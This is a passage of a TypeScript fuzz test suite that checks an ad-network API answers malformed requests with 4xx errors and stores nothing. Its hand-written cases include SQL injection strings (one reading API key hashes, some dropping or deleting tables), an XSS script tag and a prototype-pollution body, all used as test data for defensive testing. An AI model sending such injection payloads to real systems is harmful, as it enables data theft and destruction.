    eventData: { outExchangeCampaignId: f.exchangeCampaignId, inExchangeCampaignId: UNKNOWN_ID, telegramUserId: 'fuzz-user', source: 'user', timestamp: 1 },
    sign: '0'.repeat(32),
  });
  const timestamp = bad.timestamp();
  return [
    fetchRoute('/matching/ad/campaign', false),
    fetchRoute('/matching/ad/campaign/multi', true),
    exchangeFetchRoute('/matching/exchange/campaign/new', false),
    exchangeFetchRoute('/matching/exchange/campaign/multi/new', true),
    {
      name: `POST ${SDK}/ad/report/event`,
      method: 'POST',
      path: `${SDK}/ad/report/event`,
      key: pub,
      wrongRoleKeys: [partner],
      body: 'json',
      valid: () => ({ body: JSON.stringify(adEvent()) }),
      broken: jsonBody(
        brokenObject(
          adEvent,
          [
            edit('eventType', bad.oneOf(eventTypes)),
            edit('eventData', bad.object()),
            edit('eventData.adBlockId', fc.oneof(notString(false), longerThan(64), unknownId(knownIds))),
            edit('eventData.openId', bad.id(128)),
            edit('eventData.type', bad.oneOf(userTypes, false)),
            edit('eventData.timestamp', timestamp),
            edit('eventData.num', notNumber(false)),
            edit(
              'sign',
              fc.oneof(
                bad.id(64),
                fc.array(fc.constantFrom(...'0123456789abcdef'), { minLength: 32, maxLength: 32 }).map((digits) => digits.join('')),
              ),
            ),
          ],
          [edit('eventData.openId', hostileText)],
        ),
      ),
    },
    {
      name: `POST ${SDK}/exchange/report/event/new`,
      method: 'POST',
      path: `${SDK}/exchange/report/event/new`,
      key: partner,
      wrongRoleKeys: notPartner,
      body: 'json',
      valid: () => ({ body: JSON.stringify(exchangeEvent()) }),
      broken: jsonBody(
        brokenObject(
          exchangeEvent,
          [
            edit('eventType', bad.oneOf(eventTypes)),
            edit('eventData', bad.object()),
            edit('eventData.outExchangeCampaignId', fc.oneof(notString(false), longerThan(64), unknownId(knownIds))),
            edit('eventData.telegramUserId', bad.id(128)),
            edit('eventData.source', bad.oneOf(['user', 'system', 'normal', 'event', 'earn'], false)),
            edit('eventData.timestamp', timestamp),
            edit(
              'sign',
              fc.oneof(
                bad.id(64),
                fc.array(fc.constantFrom(...'0123456789abcdef'), { minLength: 32, maxLength: 32 }).map((digits) => digits.join('')),
              ),
            ),
          ],
          [edit('eventData.telegramUserId', hostileText)],
        ),
      ),
    },
    {
      name: `POST ${SDK}/sdk/user/profile`,
      method: 'POST',
      path: `${SDK}/sdk/user/profile`,
      key: pub,
      wrongRoleKeys: [],
      body: 'json',
      valid: () => ({ body: JSON.stringify({ openId: 'fuzz-user', type: 'telegram', events: ['onBoard'] }) }),
      broken: jsonBody(
        brokenObject(
          () => ({ openId: 'fuzz-user', type: 'telegram', events: ['onBoard'] }),
          [
            edit('openId', bad.id(128)),
            edit('type', bad.oneOf(userTypes, false)),
            edit('walletAddress', fc.oneof(bad.id(128, false), fc.constant('EQD4FPq'))),
            // a good wallet alone is a 400 too (walletClassify is required with it); never both good
            edit('walletClassify', bad.oneOf(['ton', 'evm', 'primary', 'alt'], false)),
            edit(
              'events',
              fc.oneof(fc.string({ maxLength: 5 }), fc.integer(), smallObject, fc.constant(Array.from({ length: 21 }, () => 'e')), fc.constant([1])),
            ),
          ],
          [edit('openId', hostileText)],
        ),
      ),
    },
    {
      name: `POST ${SDK}/common/event/report`,
      method: 'POST',
      path: `${SDK}/common/event/report`,
      key: pub,
      wrongRoleKeys: [],
      body: 'json',
      valid: () => ({ body: JSON.stringify({ eventName: 'level_up', openId: 'fuzz-user', type: 'telegram', eventSource: 'sdk' }) }),
      broken: jsonBody(
        brokenObject(
          () => ({ eventName: 'level_up', openId: 'fuzz-user', type: 'telegram', eventSource: 'sdk' }),
          [
            edit('eventName', bad.id(1000)),
            edit('openId', fc.oneof(notString(false), longerThan(128))),
            edit('type', fc.oneof(notString(false), longerThan(32))),
            edit('eventSource', bad.oneOf(['sdk', 'api', 'web'], false)),
          ],
          [edit('eventName', hostileText)],
        ),
      ),
    },
    {
      name: `GET ${SDK}/ad/verify/conversion`,
      method: 'GET',
      path: `${SDK}/ad/verify/conversion`,
      key: pub,
      wrongRoleKeys: notPublisher,
      valid: () => ({ query: toPairs({ campaignId: f.campaignId, openId: 'fuzz-user', type: 'telegram' }) }),
      broken: queryOf(
        brokenQuery(
          () => ({ campaignId: f.campaignId, openId: 'fuzz-user', type: 'telegram' }),
          [
            edit('campaignId', fc.oneof(badQuery.id(64), fc.constant(ABSENT))),
            edit('openId', fc.oneof(badQuery.id(128), fc.constant(ABSENT))),
            edit('type', badQuery.oneOf(userTypes)),
          ],
        ),
      ),
    },
    {
      name: `GET ${SDK}/exchange/verify/conversion`,
      method: 'GET',
      path: `${SDK}/exchange/verify/conversion`,
      key: partner,
      wrongRoleKeys: notPartner,
      valid: () => ({ query: toPairs({ exchangeCampaignId: f.exchangeCampaignId, openId: 'fuzz-user' }) }),
      broken: queryOf(
        brokenQuery(
          () => ({ exchangeCampaignId: f.exchangeCampaignId, openId: 'fuzz-user' }),
          [edit('exchangeCampaignId', fc.oneof(badQuery.id(64), fc.constant(ABSENT))), edit('openId', fc.oneof(badQuery.id(128), fc.constant(ABSENT)))],
        ),
      ),
    },
  ];
}

/** Keys that open nothing: none, empty, random, key-shaped, overlong, hostile. */
const invalidKey = (knownKeys: string[]) =>
  fc
    .oneof(
      fc.constant(null),
      fc.string({ maxLength: 80 }),
      fc.string({ minLength: 43, maxLength: 43 }).map((tail) => `adn_${tail}`),
      fc.integer({ min: 201, max: 4000 }).map((length) => 'k'.repeat(length)),
      hostileHeaderText,
    )
    .filter((key) => key === null || !knownKeys.some((known) => key.trim() === known));

/** Every kind of bad request for one route, each with the statuses it may get. */
function arbitraryFor(route: Route, allRoutes: Route[], knownKeys: string[]): fc.Arbitrary<Attempt> {
  const start = (override: Partial<Attempt>): Attempt => ({ method: route.method, path: route.path, key: route.key, expect: [400, 404], ...override });
  const valid = (): Partial<Attempt> => {
    const request = route.valid();
    return request.body !== undefined && request.contentType === undefined ? { ...request, contentType: 'application/json' } : request;
  };
  const kinds: fc.WeightedArbitrary<Attempt>[] = [];
  if (route.broken) kinds.push({ weight: 8, arbitrary: route.broken.map(start) });
  kinds.push({ weight: 2, arbitrary: invalidKey(knownKeys).map((key) => start({ ...valid(), key, expect: [401] })) });
  if (route.wrongRoleKeys.length > 0) {
    kinds.push({ weight: 1, arbitrary: fc.constantFrom(...route.wrongRoleKeys).map((key) => start({ ...valid(), key, expect: [403] })) });
  }
  const otherMethod: Method = route.method === 'GET' ? 'POST' : 'GET';
  if (!allRoutes.some((other) => other.method === otherMethod && other.name.split(' ')[1] === route.name.split(' ')[1])) {
    kinds.push({ weight: 1, arbitrary: fc.constant(start({ ...valid(), method: otherMethod, expect: [404, 405] })) });
  }
  if (route.body === 'json' || route.body === 'none') {
    kinds.push({ weight: 2, arbitrary: malformedJson.map((body) => start({ body, contentType: 'application/json', expect: [400] })) });
    kinds.push({
      weight: 1,
      arbitrary: fc
        .constantFrom(...FOREIGN_CONTENT_TYPES, ...(route.body === 'json' ? ['text/csv', 'text/plain'] : []))
        .map((contentType) => start({ ...valid(), body: valid().body ?? '{}', contentType, expect: contentType === 'text/plain' ? [400, 415] : [415] })),
    });
  }
  if (route.body === 'json') {
    kinds.push({ weight: 1, arbitrary: notAnObjectJson.map((body) => start({ body, contentType: 'application/json', expect: [400] })) });
    kinds.push({
      weight: 1,
      // bytes that are not UTF-8, where a value should start: no decoding makes this JSON
      arbitrary: fc
        .constantFrom([0xed, 0xa0, 0x80], [0xff, 0xfe], [0xc3], [0xf0, 0x9f, 0x98])
        .map((bytes) =>
          start({ body: Buffer.concat([Buffer.from('{"a":'), Buffer.from(bytes), Buffer.from('}')]), contentType: 'application/json', expect: [400] }),
        ),
    });
  }
  if (route.body === 'csv') {
    kinds.push({
      weight: 2,
      arbitrary: fc.oneof(
        fc.constantFrom(...FOREIGN_CONTENT_TYPES).map((contentType) => start({ body: valid().body, contentType, expect: [415] })),
        fc
          .oneof(
            fc.jsonValue({ maxDepth: 2 }).map((value) => JSON.stringify(value)),
            malformedJson,
          )
          .map((body) => start({ body, contentType: 'application/json', expect: [400] })),
        fc.constant(start({ body: valid().body, contentType: 'text/plain', expect: [400, 415] })),
      ),
    });
  }
  return fc.oneof(...kinds).map(withShortDescription);
}

/** One line per attempt: a 100 000-character body would drown the part that matters. */
function describeAttempt(attempt: Attempt): string {
  const short = (value: unknown) => {
    const text = typeof value === 'string' ? value : Buffer.isBuffer(value) ? `<bytes ${value.toString('hex').slice(0, 80)}>` : JSON.stringify(value);
    return text === undefined ? '' : text.length > 1500 ? `${text.slice(0, 1500)}…(${text.length} chars)` : text;
  };
  return (
    `${attempt.method} ${attempt.path}${queryText(attempt.query).slice(0, 300)} key=${short(attempt.key)} ` +
    `type=${attempt.contentType ?? '-'} headers=${short(attempt.headers ?? {})} body=${short(attempt.body)} expect=${attempt.expect}`
  );
}

/** fast-check prints counterexamples with this. */
function withShortDescription(given: Attempt): Attempt {
  const attempt = { ...given };
  Object.defineProperty(attempt, fc.toStringMethod, { enumerable: false, value: () => describeAttempt(attempt) });
  return attempt;
}

// ---------------------------------------------------------------------------------------------------------------
// Sending and judging
// ---------------------------------------------------------------------------------------------------------------

function queryText(query: Attempt['query']): string {
  if (query === undefined) return '';
  if (typeof query === 'string') return `?${query}`;
  return query.length === 0 ? '' : `?${query.map(([name, value]) => `${encode(name)}=${encode(value)}`).join('&')}`;
}

function send(t: TestApp, attempt: Attempt) {
  const url = attempt.path + queryText(attempt.query);
  let call = attempt.method === 'GET' ? t.http().get(url) : t.http().post(url);
  if (attempt.key !== null) call = call.set('x-api-key', attempt.key);
  for (const [name, value] of Object.entries(attempt.headers ?? {})) call = call.set(name, value);
  if (attempt.body !== undefined) {
    // bytes as given: superagent would otherwise serialise a Buffer to JSON
    call = call
      .set('content-type', attempt.contentType ?? 'application/json')
      .serialize((raw: unknown) => raw as string)
      .send(attempt.body);
  }
  return call;
}

/** What is wrong with an answer to a bad request: not one of the expected 4xx, or not the docs/CONTRACT.md §1 envelope. */
function problemsWith(response: Response, expect: number[]): string[] {
  const problems: string[] = [];
  const body = response.body as Json;
  if (!expect.includes(response.status)) problems.push(`status ${response.status}, expected one of ${expect.join('/')}`);
  if (response.status < 400 || response.status >= 500) problems.push(`status ${response.status} is not a 4xx`);
  if (!/^application\/json/.test(String(response.headers['content-type']))) problems.push(`content-type ${response.headers['content-type']}`);
  if (body === null || typeof body !== 'object' || Object.keys(body).sort().join(',') !== 'code,data,message') {
    problems.push('body is not exactly {code, message, data}');
    return problems;
  }
  if (body.code !== response.status) problems.push(`code ${String(body.code)} differs from the status`);
  if (typeof body.message !== 'string' || body.message.trim() === '') problems.push('message is not a non-empty string');
  else if (/\n\s+at |QueryFailedError|SQLITE_|ER_[A-Z_]+|\bsql\b/i.test(body.message)) problems.push('message leaks internals');
  const data = body.data as Json;
  if (data === null || typeof data !== 'object' || Array.isArray(data)) problems.push('data is not an object');
  else if ('errors' in data) {
    const errors = data.errors as { field?: unknown; message?: unknown }[];
    const wellFormed =
      Array.isArray(errors) && errors.length > 0 && errors.every((error) => typeof error.field === 'string' && typeof error.message === 'string');
    if (!wellFormed) problems.push('data.errors is not a non-empty list of {field, message}');
  }
  return problems;
}

const tally = { requests: 0, serverErrors: 0, rowsChanged: 0, routes: new Set<string>(), statuses: new Map<number, number>() };

/** `route`: the route name when the attempt belongs to the fuzz of one route (counted as an endpoint tried). */
async function tryAttempt(t: TestApp, route: string | null, attempt: Attempt): Promise<void> {
  const longQuery = attempt.query !== undefined && Buffer.byteLength(queryText(attempt.query)) > LONG_QUERY_BYTES;
  const bigBody =
    attempt.body !== undefined && Buffer.byteLength(attempt.body) > ROUTE_BODY_LIMIT && !BULK_BODY_ROUTES.some((pattern) => pattern.test(attempt.path));
  const expected = [...attempt.expect, ...(longQuery ? [414, 431] : []), ...(bigBody && attempt.key !== null ? [413] : [])];
  const response = await send(t, attempt);
  tally.requests += 1;
  if (route !== null) tally.routes.add(route);
  tally.statuses.set(response.status, (tally.statuses.get(response.status) ?? 0) + 1);
  if (response.status >= 500) tally.serverErrors += 1;
  const problems = problemsWith(response, expected);
  if (problems.length > 0) {
    throw new Error(`${problems.join('; ')}\nanswer: ${response.status} ${JSON.stringify(response.body).slice(0, 500)}`);
  }
}

/** Every row of every table of the application, as sorted JSON lines per table. */
async function snapshot(t: TestApp): Promise<Map<string, string[]>> {
  const dataSource = t.app.get(DataSource);
  const tables = new Map<string, string[]>();
  for (const { tableName } of dataSource.entityMetadatas) {
    const rows: Json[] = await dataSource.query(`SELECT * FROM ${dataSource.driver.escape(tableName)}`);
    tables.set(tableName, rows.map((row) => JSON.stringify(row, (_key, value) => (typeof value === 'bigint' ? String(value) : value))).sort());
  }
  return tables;
}

/** Rows added, removed or changed (a changed row counts as one removed and one added), per table. */
function changedRows(before: Map<string, string[]>, after: Map<string, string[]>): Record<string, number> {
  const changes: Record<string, number> = {};
  for (const [table, rowsBefore] of before) {
    const rowsAfter = after.get(table) ?? [];
    const remaining = new Map<string, number>();
    for (const row of rowsBefore) remaining.set(row, (remaining.get(row) ?? 0) + 1);
    let added = 0;
    for (const row of rowsAfter) {
      const count = remaining.get(row) ?? 0;
      if (count > 0) remaining.set(row, count - 1);
      else added += 1;
    }
    const removed = [...remaining.values()].reduce((sum, count) => sum + count, 0);
    if (added + removed > 0) changes[table] = added + removed;
  }
  return changes;
}

/** Runs `work`, then proves that no table of `t` changed in the meantime. */
async function expectNothingStored(t: TestApp, work: () => Promise<void>): Promise<void> {
  const before = await snapshot(t);
  let failure: unknown = null;
  await work().catch((error: unknown) => (failure = error));
  const changes = changedRows(before, await snapshot(t));
  tally.rowsChanged += Object.values(changes).reduce((sum, count) => sum + count, 0);
  if (failure) throw failure;
  expect(changes).toEqual({});
}

/** An ad block's blocked categories and domains (docs/CONTRACT.md §18) that are not lists of known values. */
const badCategories = fc.oneof(
  notNumber(false),
  fc.constantFrom<unknown>(['poker'], ['GAMBLING'], [' games'], [5], [null], [['games']], Array(11).fill('games')),
);
const badDomains = fc.oneof(
  fc.integer(),
  fc.constantFrom<unknown>(
    'example.com',
    ['https://example.com'],
    ['example.com/path'],
    ['example.com:8080'],
    ['localhost'],
    ['1.2.3.4'],
    ['a..example.com'],
    ['-a.example.com'],
    ['under_score.example'],
    [''],
    [5],
    [`${'a'.repeat(64)}.example`],
    Array.from({ length: 201 }, (_, i) => `d${i}.example`),
  ),
);

const FUZZ_OPTIONS = { seed: SEED, numRuns: RUNS };
// hooks start applications and wait for a profile batch; the fuzz tests set their own, longer limits
jest.setTimeout(30_000);

/** Route names, known before the application starts, so that each route is its own test. */
const ROUTE_NAMES = buildRoutes({
  advertiser: { accountId: 'a', apiKey: 'a' },
  publisher: { accountId: 'p', apiKey: 'p' },
  partner: { accountId: 'x', apiKey: 'x' },
  adminAccountId: 'm',
  campaignId: 'c',
  adBlockId: 'b',
  exchangeCampaignId: 'e',
  batchId: 'q',
  keyId: 'k',
}).map((route) => route.name);

afterAll(() => {
  const statuses = [...tally.statuses.entries()]
    .sort(([a], [b]) => a - b)
    .map(([status, count]) => `${status}×${count}`)
    .join(' ');
  process.stdout.write(
    `\nbad-input [${TEST_PROFILE}, seed ${SEED}, ${RUNS} runs per route]: ${tally.requests} requests tried across ${tally.routes.size} endpoints, ` +
      `5xx seen: ${tally.serverErrors}, rows changed: ${tally.rowsChanged} (statuses: ${statuses})\n`,
  );
});

describe(`Bad input on every route answers a 4xx envelope and stores nothing [${TEST_PROFILE}]`, () => {
  let t: TestApp;
  let fixtures: Fixtures;
  let knownKeys: string[];

  beforeAll(async () => {
    // the fuzz sends far more than the default 2000 requests per second and key
    // Rate limits have their own tests (abuse/keys-and-edge): here every bad request must reach its check.
    t = await startTestApp({ RATE_LIMIT_PER_SECOND: '0', UNKNOWN_KEY_RATE_LIMIT_PER_SECOND: '0' });
    const advertiser = await createAccount(t, ['advertiser'], 'Fuzz advertiser');
    const publisher = await createAccount(t, ['publisher'], 'Fuzz publisher');
    const partner = await createAccount(t, ['partner'], 'Fuzz partner');
    const campaignId = await createCampaign(t, advertiser.apiKey, campaignBody());
    const adBlockId = await createAdBlock(t, publisher.apiKey, 'Fuzz block');
    const exchange = await t.http().post(`${OPENAPI}/exchange/campaign/create`).set('x-api-key', partner.apiKey).send(exchangeBody()).expect(200);
    const batch = await uploadAndApply(t, publisher.apiKey, [validRecord(0)]);
    const key = await t.http().post(`${ADMIN}/accounts/${publisher.accountId}/keys`).set('x-api-key', ADMIN_KEY).send({ label: 'second' }).expect(200);
    const me = await t.http().get(`${OPENAPI}/account/me`).set('x-api-key', ADMIN_KEY).expect(200);
    fixtures = {
      advertiser,
      publisher,
      partner,
      adminAccountId: me.body.data.accountId,
      campaignId,
      adBlockId,
      exchangeCampaignId: exchange.body.data.exchangeCampaignId,
      batchId: batch.batchId,
      keyId: key.body.data.keyId,
    };
    knownKeys = [ADMIN_KEY, advertiser.apiKey, publisher.apiKey, partner.apiKey, key.body.data.apiKey];
  });
  afterAll(() => t.close());

  it('should cover every route of the API that the Swagger document lists', async () => {
    const doc = (await t.http().get('/docs-json').expect(200)).body as { paths: Record<string, Record<string, unknown>> };
    const documented = Object.entries(doc.paths)
      .filter(([path]) => path.startsWith('/api/'))
      .flatMap(([path, methods]) => Object.keys(methods).map((method) => `${method.toUpperCase()} ${path}`));
    expect([...ROUTE_NAMES].sort()).toEqual(documented.sort());
  });

  it('should notice a stored row, so that "nothing stored" below means something', async () => {
    const before = await snapshot(t);
    await createAdBlock(t, fixtures.publisher.apiKey, 'Detector check');
    await t
      .http()
      .post(`${OPENAPI}/ad/campaign/status`)
      .set('x-api-key', fixtures.advertiser.apiKey)
      .send({ campaignId: fixtures.campaignId, status: 'paused' })
      .expect(200);
    await t
      .http()
      .post(`${OPENAPI}/ad/campaign/status`)
      .set('x-api-key', fixtures.advertiser.apiKey)
      .send({ campaignId: fixtures.campaignId, status: 'start' })
      .expect(200);
    // one block added; the campaign row changed (status back, but version and updatedAt moved): one removed, one added
    expect(changedRows(before, await snapshot(t))).toEqual({ ad_blocks: 1, campaigns: 2 });
  });

  it.each(ROUTE_NAMES)(
    '%s: generated bad requests',
    async (name) => {
      const routes = buildRoutes(fixtures);
      const route = routes.find((candidate) => candidate.name === name)!;
      await expectNothingStored(t, () =>
        fc.assert(
          fc.asyncProperty(arbitraryFor(route, routes, knownKeys), (attempt) => tryAttempt(t, name, attempt)),
          FUZZ_OPTIONS,
        ),
      );
    },
    60_000,
  );

  it('should refuse hand-written hostile requests: huge, deep, out of range, injected, mis-encoded, repeated', async () => {
    const f = fixtures;
    const adv = f.advertiser.apiKey;
    const pub = f.publisher.apiKey;
    const partner = f.partner.apiKey;
    const post = (path: string, key: string, body: unknown, expect = [400]): Attempt => ({
      method: 'POST',
      path,
      key,
      body: typeof body === 'string' ? body : JSON.stringify(body),
      contentType: 'application/json',
      expect,
    });
    const get = (path: string, key: string, query: Attempt['query'], expect = [400]): Attempt => ({ method: 'GET', path, key, query, expect });
    const CREATE = `${OPENAPI}/ad/campaign/create`;
    const DETAIL = `${OPENAPI}/ad/campaign/detail`;
    const FETCH = `${OPENAPI}/matching/ad`;
    const click = (eventData: Json) => ({
      eventType: 'click',
      eventData: { adBlockId: f.adBlockId, messengerUserId: 'u', adId: 'ad_x', campaignId: f.campaignId, ...eventData },
    });
    const fetchQuery = (overrides: Json) => toPairs({ adBlockId: f.adBlockId, openId: 'u', type: 'messenger', limit: '3', ...overrides });
    const deepArray = (depth: number) => `${'['.repeat(depth)}${']'.repeat(depth)}`;
    const deepObject = (depth: number) => `${'{"a":'.repeat(depth)}1${'}'.repeat(depth)}`;
    /** JSON text of a valid campaign with one value replaced by raw JSON (numbers JSON.stringify cannot write). */
    const campaignWithRaw = (path: 'amount' | 'total' | 'startTime' | 'costPer', raw: string) =>
      JSON.stringify(campaignBody()).replace(new RegExp(`"${path}":[^,}]+`), `"${path}":${raw}`);
    const JSON_ROUTES: [path: string, key: string, firstField: string][] = [
      [CREATE, adv, 'name'],
      [`${OPENAPI}/ad/campaign/status`, adv, 'campaignId'],
      [`${OPENAPI}/ad/campaign/update`, adv, 'campaignId'],
      [`${OPENAPI}/ad/block/create`, pub, 'name'],
      [`${OPENAPI}/ad/block/update`, pub, 'adBlockId'],
      [`${OPENAPI}/ad/event/report`, pub, 'eventData'],
      [`${OPENAPI}/ad/event/report/conversion`, adv, 'eventData'],
      [`${OPENAPI}/ad/event/report/custom`, adv, 'eventData'],
      [`${OPENAPI}/user/profile/batch`, pub, 'list'],
      [`${OPENAPI}/exchange/event/report`, partner, 'eventData'],
      [`${OPENAPI}/exchange/event/report/conversion`, partner, 'eventData'],
      [`${OPENAPI}/exchange/campaign/create`, partner, 'name'],
      [`${OPENAPI}/exchange/campaign/update`, partner, 'exchangeCampaignId'],
      [`${OPENAPI}/exchange/campaign/status`, partner, 'exchangeCampaignId'],
      [`${ADMIN}/accounts`, ADMIN_KEY, 'name'],
      [`${ADMIN}/accounts/${f.advertiser.accountId}/keys`, ADMIN_KEY, 'label'],
    ];
    const cases: Attempt[] = [
      // huge strings
      post(CREATE, adv, campaignBody({ name: 'n'.repeat(100_000) })),
      post(CREATE, adv, campaignBody({ ad: { destination: { actionType: 'visit.website', url: `https://example.com/${'p'.repeat(100_000)}` } } })),
      post(`${OPENAPI}/ad/block/create`, pub, { name: 'n'.repeat(100_000) }),
      post(`${OPENAPI}/exchange/campaign/create`, partner, { ...exchangeBody(), text: 't'.repeat(100_000) }),
      post(`${ADMIN}/accounts`, ADMIN_KEY, { name: 'n'.repeat(100_000), roles: ['advertiser'] }),
      post(`${OPENAPI}/ad/event/report/conversion`, adv, { eventType: 'conversion', eventData: { messengerUserId: 'u'.repeat(100_000) } }),
      post(`${OPENAPI}/ad/event/report/custom`, adv, { eventType: 'play', eventData: { messengerUserId: 'u'.repeat(100_000) } }),
      post(`${OPENAPI}/ad/event/report`, pub, click({ messengerUserId: 'u'.repeat(100_000) })),
      post(`${OPENAPI}/user/profile/batch`, pub, { list: [{ messengerUserId: 'u'.repeat(100_000) }] }),
      // huge arrays
      post(CREATE, adv, campaignBody({ targeting: { includedRegions: Array.from({ length: 100_000 }, () => 'US') } })),
      post(CREATE, adv, campaignBody({ targeting: { excludedLanguages: Array.from({ length: 100_000 }, () => 'en') } })),
      post(`${OPENAPI}/user/profile/batch`, pub, { list: Array.from({ length: 5001 }, (_, i) => ({ messengerUserId: `big-${i}` })) }),
      post(`${OPENAPI}/user/profile/batch`, pub, { list: Array.from({ length: 100_000 }, () => 1) }),
      post(`${ADMIN}/accounts`, ADMIN_KEY, { name: 'Many roles', roles: Array.from({ length: 100_000 }, () => 'advertiser') }),
      post(`${OPENAPI}/exchange/campaign/create`, partner, { ...exchangeBody(), targeting: { includedRegions: Array.from({ length: 100_000 }, () => 'US') } }),
      // deep nesting, in the first field of every JSON route and as the whole body
      ...JSON_ROUTES.map(([path, key, field]) => post(path, key, `{"${field}":${deepArray(20_000)}}`)),
      ...JSON_ROUTES.map(([path, key]) => post(path, key, deepObject(20_000))),
      post(`${OPENAPI}/user/profile/batch`, pub, `{"list":[${deepObject(20_000)}]}`),
      // numbers out of range, written as raw JSON
      post(CREATE, adv, campaignWithRaw('amount', '1e400')),
      post(CREATE, adv, campaignWithRaw('total', '-1e400')),
      post(CREATE, adv, campaignWithRaw('startTime', '1e300')),
      post(CREATE, adv, campaignWithRaw('startTime', '9007199254740993')),
      post(CREATE, adv, campaignWithRaw('startTime', '-1')),
      post(CREATE, adv, campaignWithRaw('costPer', '-0')),
      post(CREATE, adv, campaignWithRaw('costPer', '1e-7')),
      post(CREATE, adv, campaignWithRaw('amount', '1000000000.000001')),
      post(`${OPENAPI}/ad/block/create`, pub, '{"name":1e400}'),
      // 'NaN' and 'Infinity' as strings
      post(CREATE, adv, campaignBody({ budget: { amount: 'NaN' } })),
      post(CREATE, adv, campaignBody({ budget: { total: 'Infinity' } })),
      post(CREATE, adv, campaignBody({ bidding: { costPer: '-Infinity' } })),
      post(CREATE, adv, campaignBody({ budget: { startTime: 'NaN', endTime: 'Infinity' } })),
      ...['NaN', 'Infinity', '-Infinity', '1e1', '0', '10', '2.5', '-1', '', ' ', '1e400', '٣'].map((limit) => get(FETCH, pub, fetchQuery({ limit }))),
      ...['NaN', 'Infinity', '0', '-1', '1000001', '1.5'].map((current) => get(`${OPENAPI}/ad/campaign/list`, adv, [['current', current]])),
      ...['NaN', 'Infinity', '0', '101', '1e3'].map((pageSize) => get(`${ADMIN}/accounts`, ADMIN_KEY, [['pageSize', pageSize]])),
      ...['NaN', 'Infinity', '-1', '1e400'].map((from) =>
        get(`${OPENAPI}/ad/campaign/stats`, adv, [
          ['campaignId', f.campaignId],
          ['from', from],
        ]),
      ),
      get(`${OPENAPI}/ad/conversion/summary`, adv, [['to', 'Infinity']]),
      get(`${OPENAPI}/ad/campaign/verification`, adv, [
        ['campaignId', f.campaignId],
        ['limit', 'NaN'],
      ]),
      // injection text where ids go: looked up as plain values, found nowhere
      ...["' OR '1'='1", '1; DROP TABLE campaigns; --', '%', '_', '*', "x' UNION SELECT apiKeyHash FROM api_keys --", '<script>alert(1)</script>'].flatMap(
        (id) => [
          get(DETAIL, adv, [['campaignId', id]], [404]),
          get(`${OPENAPI}/ad/block/detail`, pub, [['adBlockId', id]], [404]),
          get(`${OPENAPI}/user/profile/batch/status`, pub, [['batchId', id]], [404]),
          get(`${OPENAPI}/exchange/campaign/detail`, partner, [['exchangeCampaignId', id]], [404]),
          post(`${OPENAPI}/ad/campaign/status`, adv, { campaignId: id, status: 'end' }, [404]),
          post(`${OPENAPI}/ad/campaign/update`, adv, { campaignId: id, name: 'x' }, [404]),
          post(`${OPENAPI}/exchange/campaign/status`, partner, { exchangeCampaignId: id, status: 'end' }, [404]),
          get(`${ADMIN}/accounts/${encode(id)}`, ADMIN_KEY, undefined, [404]),
          post(`${ADMIN}/keys/${encode(id)}/revoke`, ADMIN_KEY, {}, [404]),
        ],
      ),
      post(CREATE, adv, campaignBody({ name: "'); DELETE FROM campaigns; --", budget: { amount: -1 } })),
      post(`${OPENAPI}/user/profile/batch`, pub, { list: [{ messengerUserId: "x'); DELETE FROM profiles; --", ipAddress: "1.1.1.1' OR '1'='1" }] }),
      // lone surrogates and bytes that are not UTF-8
      get(DETAIL, adv, 'campaignId=%ED%A0%80', [404]),
      get(DETAIL, adv, 'campaignId=%F0%9F', [404]),
      get(DETAIL, adv, 'campaignId=%FF%FE', [404]),
      get(DETAIL, adv, 'campaignId=%zz%', [404]),
      get(`${ADMIN}/accounts/%ED%A0%80`, ADMIN_KEY, undefined, [400]),
      get(`${ADMIN}/accounts/%ED%A0%80/keys`, ADMIN_KEY, undefined, [400]),
      post(`${ADMIN}/keys/%ED%A0%80/revoke`, ADMIN_KEY, {}, [400]),
      post(CREATE, adv, campaignBody({ name: '\ud800', budget: { amount: -1 } })),
      post(`${OPENAPI}/ad/event/report/conversion`, adv, { eventType: 'conversion', eventData: { messengerUserId: '\udfff'.repeat(129) } }),
      post(`${OPENAPI}/user/profile/batch`, pub, { list: [{ messengerUserId: '\ud800', ipAddress: '\ud800' }] }),
      post(`${OPENAPI}/ad/block/create`, pub, Buffer.concat([Buffer.from('{"name":"ok"'), Buffer.from([0xff, 0xfe]), Buffer.from('}')])),
      // repeated and bracketed parameters
      get(DETAIL, adv, `campaignId=${f.campaignId}&campaignId=${f.campaignId}`),
      get(DETAIL, adv, `campaignId[]=${f.campaignId}`),
      get(DETAIL, adv, `campaignId[0]=${f.campaignId}`),
      get(FETCH, pub, `adBlockId=${f.adBlockId}&openId=u&type=messenger&limit=3&limit=3`),
      get(FETCH, pub, `adBlockId=${f.adBlockId}&adBlockId=${f.adBlockId}&openId=u&type=messenger&limit=3`),
      get(FETCH, pub, `adBlockId[]=${f.adBlockId}&openId=u&type=messenger&limit=3`),
      get(FETCH, pub, `adBlockId=${f.adBlockId}&openId=u&type=messenger&type=messenger&limit=3`),
      get(`${OPENAPI}/ad/campaign/stats`, adv, `campaignId=${f.campaignId}&granularity=hour&granularity=day`),
      get(`${OPENAPI}/ad/conversion/summary`, adv, 'from=1&from=2'),
      get(`${OPENAPI}/ad/campaign/list`, adv, 'pageSize=5&pageSize=5'),
      // the request stream of a text/csv body must never be read as a DTO (it used to abort the process)
      ...JSON_ROUTES.map(([path, key]): Attempt => ({
        ...post(path, key, 'messengerUserId,walletAddress,walletClassify\nu,EQD4,evm\n', [415]),
        contentType: 'text/csv',
      })),
      // routes that read no body still refuse a malformed one instead of acting (rotating, revoking, rebuilding)
      post(`${OPENAPI}/account/webhook-secret/rotate`, adv, '{"confirm":'),
      post(`${ADMIN}/keys/${f.keyId}/revoke`, ADMIN_KEY, '{"reason":'),
      post(`${ADMIN}/profiles/rebuild-store`, ADMIN_KEY, '{"__proto__":{"polluted":true}}'),
      // path parameters over the router's limit
      get(`${ADMIN}/accounts/${'a'.repeat(300)}`, ADMIN_KEY, undefined, [414]),
      post(`${ADMIN}/keys/${'k'.repeat(300)}/revoke`, ADMIN_KEY, {}, [414]),
      // huge query strings
      get(DETAIL, adv, [['campaignId', 'c'.repeat(100_000)]], [400, 414, 431]),
      get(`${OPENAPI}/ad/campaign/list`, adv, [['current', '9'.repeat(3000)]], [400, 414, 431]),
      get(FETCH, pub, `adBlockId=${f.adBlockId}&openId=u&type=messenger${'&limit=1'.repeat(2000)}`, [400, 414, 431]),
      get(FETCH, pub, [...fetchQuery({ limit: '0' }), ...Array.from({ length: 500 }, (_, i): [string, string] => [`junk${i}`, 'x'])], [400, 414, 431]),
    ];
    await expectNothingStored(t, async () => {
      for (const attempt of cases) {
        try {
          await tryAttempt(t, null, attempt);
